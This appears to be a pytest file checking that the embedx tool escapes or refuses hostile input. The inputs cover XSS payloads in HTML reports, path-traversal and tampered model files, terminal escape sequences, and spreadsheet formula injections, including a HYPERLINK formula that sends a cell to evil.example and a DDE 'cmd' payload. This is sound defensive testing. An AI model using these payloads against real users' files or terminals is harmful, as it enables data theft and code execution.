"""Hostile input to what embedx shows and writes: HTML reports, plots, the terminal, the history CSV, and the run
folder a report or ``--checkpoint`` reads. Real stores, a real (tiny) finetune run, real Chromium; every CLI case
runs in a child bounded in time and memory (``run_bounded``)."""
import csv
import json
import os
import shutil

import numpy as np
import pytest

from embedx import drift_analysis as D
from embedx.drift_analysis import report
from embedx.drift_analysis.comparison import Drift
from embedx.models.encoder import file_sha256
from embedx.errors import EmbedxError
from embedx.formats.arrays import import_arrays
from embedx.models.factory import read_run
from embedx.predict import predict
from embedx.predict.history import append_row
from embedx.predict.history import read as read_history
from tests.conftest import assert_one_line_error, lora_run_and_stores, run_bounded
from tests.test_drift import _dom, chromium  # noqa: F401  (chromium: the session fixture)

SCRIPT = '<script>document.title="pwned";document.documentElement.setAttribute("data-pwned","script")</script>'
IMG = '"><img src=x onerror="document.documentElement.setAttribute(\'data-pwned\',\'img\')">'


def _stores(tmp_path, rng, names, n=60, d=8, tag="s"):
    """BEFORE / AFTER class stores of the same samples (AFTER: BEFORE moved by noise), classes named ``names``."""
    c = len(names)
    t = rng.standard_normal((c, d)).astype(np.float32)
    y = np.arange(n) % c
    x = rng.standard_normal((n, d)).astype(np.float32) + 2.0 * t[y]
    out = []
    for side, (xs, ts) in (("before", (x, t)), ("after", (x + 0.5 * rng.standard_normal(x.shape).astype(np.float32),
                                                           t + 0.2 * rng.standard_normal(t.shape).astype(np.float32)))):
        stem = tmp_path / f"{tag}_{side}"
        np.save(f"{stem}.x.npy", xs)
        np.save(f"{stem}.t.npy", ts)
        np.save(f"{stem}.y.npy", y)
        import_arrays(f"{stem}.zarr", images=f"{stem}.x.npy", texts=f"{stem}.t.npy", labels=f"{stem}.y.npy",
                      names=list(names), dtype="float32", dataset=f"{tag}-data")
        out.append(f"{stem}.zarr")
    return out


@pytest.fixture(scope="module")
def tuned(tmp_path_factory):
    """A real finished run (embedx-tiny, LoRA, 1 epoch) and the base / tuned stores of 24 digits."""
    run, base, after = lora_run_and_stores(tmp_path_factory.mktemp("tuned"), train_limit=64, embed_limit=24)
    return {"run": run, "base": base, "after": after}


def _edit_config(run, **changes):
    path = os.path.join(run, "config.json")
    cfg = json.loads(open(path).read())
    cfg.update(changes)
    open(path, "w").write(json.dumps(cfg))


def _copy_run(tuned, tmp_path) -> str:
    run = str(tmp_path / "run")
    shutil.copytree(tuned["run"], run)
    return run


# -- the HTML report ---------------------------------------------------------------------------------------------
def test_report_escapes_every_value_and_no_payload_runs_in_chromium(tmp_path, rng, chromium):  # noqa: F811
    """Every value the report interpolates comes from data (a run's config, store metadata, class names): script
    and attribute payloads in each of them, and strings where numbers belong, render as inert text."""
    a, b = _stores(tmp_path, rng, [SCRIPT, IMG, "plain"])
    res = D.compare(a, b, plot_sample=60, knn_sample=30)
    fields = ("path", "method", "model", "pretrained", "data", "optimizer", "epochs", "lr", "batch_size",
              "weight_decay", "best_epoch", "trainable_params", "total_params")
    res.summary["headline"]["run"] = {**{k: SCRIPT if i % 2 else IMG for i, k in enumerate(fields)},
                                      "options": {SCRIPT: IMG}, "config_found": True, "best_val_acc": "0.9" + SCRIPT}
    res.summary["stores"]["after"]["dataset"] = SCRIPT
    res.summary["options"]["metrics"] = IMG
    page = tmp_path / "r.html"
    report.write(res, str(page))
    text = page.read_text()
    body = text.split("<body>", 1)[1]
    assert "<script>document" not in body and "<img src=x" not in body  # only escaped forms are left
    assert "&lt;script&gt;document.title=&quot;pwned&quot;" in body and "&lt;img src=x onerror=" in body
    assert body.count("<script>") == 1  # the report's own image check, nothing else
    dom, ok, n_err, console = _dom(chromium, tmp_path, page)
    assert 'data-pwned="' not in dom  # no payload set the attribute (as text it reads data-pwned",)
    assert "<title>embedx drift report</title>" in dom  # nor the title
    assert ok == str(text.count("<img ")) and n_err == 0, (ok, n_err, console)


@pytest.mark.parametrize("key,value", [("lr", SCRIPT), ("best_val_acc", "high"), ("epochs", 1.5),
                                       ("batch_size", -4), ("params", "../../elsewhere/params.safetensors")])
def test_tampered_run_config_is_one_line_error_naming_the_key(tuned, tmp_path, key, value):
    """The run a store was embedded with is read again for the drift report: a config.json of the wrong type or
    range is a one-line error (exit 2) naming the key, never a value in the report nor an internal error."""
    cfg = os.path.join(tuned["run"], "config.json")
    saved = open(cfg, "rb").read()
    page = tmp_path / "r.html"
    try:
        _edit_config(tuned["run"], **{key: value})
        rc, out, err = run_bounded("drift", tuned["base"], tuned["after"], "--report", page, "--knn-sample", 20,
                                   "--plot-sample", 24, timeout=180, mem_gib=4)
    finally:
        open(cfg, "wb").write(saved)
    assert rc == 2, (rc, err)
    assert_one_line_error(rc, err, "config.json", f"{key} must be")
    assert not page.exists()


def test_run_config_that_is_not_an_object_is_named(tuned, tmp_path):
    run = _copy_run(tuned, tmp_path)
    open(os.path.join(run, "config.json"), "w").write("[1, 2, 3]")
    with pytest.raises(EmbedxError, match="not a JSON object"):
        read_run(run)


# -- the run folder behind --checkpoint -------------------------------------------------------------------------
@pytest.mark.parametrize("where", ["absolute", "dotdot", "symlink"])
def test_params_outside_the_run_folder_are_refused(tuned, tmp_path, where):
    """``config["params"]`` names a file inside the run folder: an absolute path, a '..' path or a link out of the
    folder is refused, even when the file there matches the recorded sha256."""
    run = _copy_run(tuned, tmp_path)
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    shutil.copyfile(os.path.join(run, "params.safetensors"), outside / "params.safetensors")
    if where == "absolute":
        _edit_config(run, params=str(outside / "params.safetensors"))
    elif where == "dotdot":
        _edit_config(run, params="../elsewhere/params.safetensors")
    else:
        os.remove(os.path.join(run, "params.safetensors"))
        os.symlink(outside / "params.safetensors", os.path.join(run, "params.safetensors"))
    with pytest.raises(EmbedxError, match="params must be a file name inside|outside the run folder"):
        read_run(run)
    if where == "absolute":  # the command: one line, exit 2, before any model loads
        rc, out, err = run_bounded("embed", "--checkpoint", run, "--data", "digits", "--limit", 8, "--out",
                                   tmp_path / "x.zarr", timeout=120, mem_gib=4)
        assert rc == 2, err
        assert_one_line_error(rc, err, "params must be a file name inside the run folder")


def _rewrite_params(run, mutate):
    from safetensors.torch import load_file, save_file

    path = os.path.join(run, "params.safetensors")
    state = load_file(path)
    mutate(state)
    save_file(state, path)
    _edit_config(run, params_sha256=file_sha256(path))  # a consistent tampering: the sha256 matches


@pytest.mark.parametrize("how,fragments", [
    ("garbled", ("not a readable safetensors file",)),
    ("shape", ("has shape", "the method's has")),
    ("nan", ("NaN or infinite",)),
])
def test_tampered_params_are_a_named_one_line_error(tuned, tmp_path, how, fragments):
    """A params file replaced together with its recorded sha256: garbled bytes, a tensor of another shape, NaN
    weights. ``embed --checkpoint`` says which (exit 2), not an internal error or NaN embeddings."""
    run = _copy_run(tuned, tmp_path)
    path = os.path.join(run, "params.safetensors")
    if how == "garbled":
        open(path, "wb").write(b"\x10\x00\x00\x00\x00\x00\x00\x00{not json at all}" + os.urandom(64))
        _edit_config(run, params_sha256=file_sha256(path))
    elif how == "shape":
        def cut(state):
            k = sorted(state)[0]
            state[k] = state[k][..., :-1].contiguous()
        _rewrite_params(run, cut)
    else:
        def poison(state):
            k = sorted(state)[0]
            state[k] = state[k].clone().fill_(float("nan"))
        _rewrite_params(run, poison)
    out = tmp_path / "x.zarr"
    rc, stdout, err = run_bounded("embed", "--checkpoint", run, "--data", "digits", "--limit", 8, "--out", out,
                                  timeout=180, mem_gib=4)
    assert rc == 2, (rc, err)
    assert_one_line_error(rc, err, *fragments)


def test_a_tampered_lora_rank_is_refused_before_the_model_is_built(tuned, tmp_path):
    """options.rank = 2**31 would make the model allocate LoRA matrices of billions of rows: the rank is
    checked against the params file's header first (one line, exit 2, well inside a 4 GiB address space)."""
    run = _copy_run(tuned, tmp_path)
    _edit_config(run, options={"rank": 2 ** 31})
    rc, stdout, err = run_bounded("embed", "--checkpoint", run, "--data", "digits", "--limit", 8, "--out",
                                  tmp_path / "x.zarr", timeout=120, mem_gib=4)
    assert rc == 2, (rc, err)
    assert_one_line_error(rc, err, "options.rank = 2147483648 disagrees with the LoRA matrices", "(rank 2)")


# -- plots: data strings are never mathtext; outputs are atomic, the JSON first -------------------------------
def test_drift_report_with_mathtext_names_keeps_json_and_report(tmp_path, rng):
    """Class and --others names such as ``$^$`` (a mathtext error if parsed) draw as typed; the JSON is
    written and the report replaces the old one."""
    names = ["$^$", "a$\\b$c", "plain"]
    a, b = _stores(tmp_path, rng, names)
    oa, ob = _stores(tmp_path, rng, ["x", "$y$"], n=30, tag="other")
    page, out = tmp_path / "r.html", tmp_path / "d.json"
    page.write_text("OLD REPORT")
    rc, stdout, err = run_bounded("drift", a, b, "--others", f"$^$={oa}:{ob}", "--report", page, "--out", out,
                                  "--knn-sample", 30, "--plot-sample", 60, timeout=180, mem_gib=4)
    assert rc == 0, err
    doc = json.loads(out.read_text())
    assert set(doc["per_class"]) == set(names) and set(doc["forgetting"]["tasks"]) == {"$^$"}
    text = page.read_text()
    assert text.startswith("<!DOCTYPE html>") and "$^$" in text and text.count("<img ") >= 4
    assert not [f for f in os.listdir(tmp_path) if ".tmp-" in f]


def test_a_report_that_fails_leaves_the_old_report_intact(tmp_path, rng):
    """The report is rendered whole before it replaces the file: a failure mid-render leaves the old one."""
    a, b = _stores(tmp_path, rng, ["a", "b"])
    page = tmp_path / "r.html"
    report.write(D.compare(a, b, plot_sample=60, knn_sample=30), str(page))
    before = page.read_bytes()
    broken = Drift({"n_images": 1}, np.zeros(1), {})  # a summary without its sections
    with pytest.raises(KeyError):
        report.write(broken, str(page))
    assert page.read_bytes() == before
    assert not [f for f in os.listdir(tmp_path) if ".tmp-" in f]


def _history(path, tasks, methods, rng):
    rows = []
    for i, (t, m) in enumerate(zip(tasks, methods)):
        zs = 0.2 + 0.05 * i
        rows.append({"task": t, "model": "M", "method": m, "zs_acc": zs, "ft_acc": min(0.99, zs + 0.3 + 0.02 * i),
                     "ood_delta": -0.01 * (i + 1), "p": float(rng.uniform(-1, 1))})
    for r in rows:
        append_row(str(path), r)
    return rows


def test_predict_plot_with_mathtext_names(tmp_path, rng):
    h = tmp_path / "h.csv"
    _history(h, ["$^$", "b$x$", "c", "d", "e"], ["$^$", "lora", "$\\frac{1}{0}$", "lora", "full"], rng)
    png, out = tmp_path / "p.png", tmp_path / "p.json"
    rc, stdout, err = run_bounded("predict", "--history", h, "--plot", png, "--out", out, timeout=120, mem_gib=4)
    assert rc == 0, err
    assert png.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n" and json.loads(out.read_text())["n_rows"] == 5


# -- the terminal ------------------------------------------------------------------------------------------------
ESC_NAMES = ["\x1b[31mred\x1b[0m", "\x1b]0;pwned\x07", "\x9b2Jcsi", "line\nbreak"]


def test_terminal_output_shows_control_characters_escaped(tmp_path, rng):
    a, b = _stores(tmp_path, rng, ESC_NAMES)
    for args in (("drift", a, b, "--knn-sample", 20), ("measure", a)):
        rc, stdout, err = run_bounded(*args, timeout=120, mem_gib=4)
        assert rc == 0, err
        for c in ("\x1b", "\x07", "\x9b"):
            assert c not in stdout and c not in err, (args[0], c)
    rc, stdout, err = run_bounded("drift", a, b, "--knn-sample", 20, timeout=120, mem_gib=4)
    assert "\\x1b[31mred\\x1b[0m" in stdout and "line\\x0abreak" in stdout


def test_errors_quoting_data_are_one_line_without_control_characters(tmp_path):
    h = tmp_path / "h.csv"
    with open(h, "w", newline="") as f:
        w = csv.writer(f)
        w.writerow(["task", "model", "method", "zs_acc", "ft_acc", "ood_delta"])
        w.writerow(["\x1b[2J\x1b[Hevil\nerror: fake second line", "M", "lora", "abc", "0.5", ""])
    rc, stdout, err = run_bounded("predict", "--history", h, timeout=60, mem_gib=4)
    assert rc == 2
    assert_one_line_error(rc, err, "zs_acc", "\\x1b[2J")
    assert "\x1b" not in err


# -- the history CSV ------------------------------------------------------------------------------------------
def test_history_csv_neutralizes_formulas_and_reads_them_back(tmp_path, rng):
    """Text cells that a spreadsheet would run (=, +, -, @, tab, CR first) are written with a ' in front;
    numbers, negative ones included, are written as numbers; reading gives back exactly what was appended, so
    the fits are those of the plain values."""
    h = tmp_path / "h.csv"
    tasks = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
             "\tTAB", "'=already quoted", "plain"]
    methods = ["lora", "-full", "bitfit", "lora", "@m", "lora", "full"]
    rows = _history(h, tasks, methods, rng)
    raw = list(csv.reader(open(h, newline="")))
    head, body = raw[0], raw[1:]
    col = {c: i for i, c in enumerate(head)}
    for r, line in zip(rows, body):
        for key in ("task", "method"):
            cell = line[col[key]]
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell  # nothing a spreadsheet would run
        assert line[col["ood_delta"]] == repr(r["ood_delta"]) and line[col["ood_delta"]].startswith("-")
        assert float(line[col["p"]]) == r["p"]  # numbers stay numbers, negative ones unquoted
    back = read_history(str(h))
    tasks = [t.strip() for t in tasks]  # a history cell is read stripped ("\tTAB" -> "TAB"), as always
    assert [r.task for r in back.rows] == tasks and [r.method for r in back.rows] == methods
    assert [r.ood_delta for r in back.rows] == [r["ood_delta"] for r in rows]
    append_row(str(h), {"task": "later", "model": "M", "method": "lora", "zs_acc": 0.1, "ft_acc": 0.2})
    assert [r.task for r in read_history(str(h)).rows] == tasks + ["later"]  # a rewrite keeps every value
    res = predict(str(h), measures=["p"], where=["method=-full", "method=lora", "method=@m", "method=bitfit",
                                                 "method=full"])
    assert res["n_rows"] == 8 and [r["task"] for r in res["rows"]][:len(tasks)] == tasks
